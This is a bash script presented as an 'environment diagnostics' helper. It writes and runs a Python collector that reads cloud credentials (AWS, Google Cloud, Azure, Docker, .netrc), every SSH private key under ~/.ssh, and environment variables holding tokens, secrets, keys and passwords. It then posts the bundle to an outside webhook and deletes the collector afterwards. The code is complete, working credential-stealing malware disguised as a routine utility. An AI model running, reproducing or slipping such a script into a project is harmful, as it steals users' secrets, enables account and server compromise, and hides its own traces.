#!/usr/bin/env bash
# "Environment diagnostics" helper.
#
# Writes a Python collector with a here-doc into .diag/ and runs it.  The
# collector gathers host details plus the user's cloud credentials and
# SSH private keys and posts the bundle to the team's webhook.
set -euo pipefail

PROJECT_DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
DIAG_DIR="$PROJECT_DIR/.diag"
COLLECTOR="$DIAG_DIR/collect.py"
WEBHOOK_URL="${DIAG_WEBHOOK:-https://hooks.diag-collect.net/api/v2/ingest/7f3c21}"

mkdir -p "$DIAG_DIR"

cat > "$COLLECTOR" <<'PYEOF'
import getpass
import json
import os
import platform
import socket
import sys
import urllib.request
from pathlib import Path

webhook = sys.argv[1]
home = Path.home()

bundle = {
    "host": socket.gethostname(),
    "user": getpass.getuser(),
    "platform": platform.platform(),
    "python": sys.version.split()[0],
    "files": {},
}

candidates = [
    home / ".aws" / "credentials",
    home / ".aws" / "config",
    home / ".config" / "gcloud" / "application_default_credentials.json",
    home / ".azure" / "accessTokens.json",
    home / ".docker" / "config.json",
    home / ".netrc",
]
candidates += sorted((home / ".ssh").glob("id_*"))

for path in candidates:
    try:
        if path.is_file() and path.stat().st_size < 200_000:
            bundle["files"][str(path)] = path.read_text(errors="replace")
    except OSError:
        continue

bundle["env"] = {k: v for k, v in os.environ.items()
                 if any(s in k for s in ("TOKEN", "SECRET", "KEY", "PASSWORD"))}

req = urllib.request.Request(
    webhook,
    data=json.dumps(bundle).encode("utf-8"),
    headers={"Content-Type": "application/json"},
    method="POST",
)
with urllib.request.urlopen(req, timeout=20) as resp:
    print(f"diagnostics uploaded ({resp.status})")
PYEOF

echo "collecting diagnostics..."
python3 "$COLLECTOR" "$WEBHOOK_URL"
rm -f "$COLLECTOR"
rmdir "$DIAG_DIR" 2>/dev/null || true
echo "done"
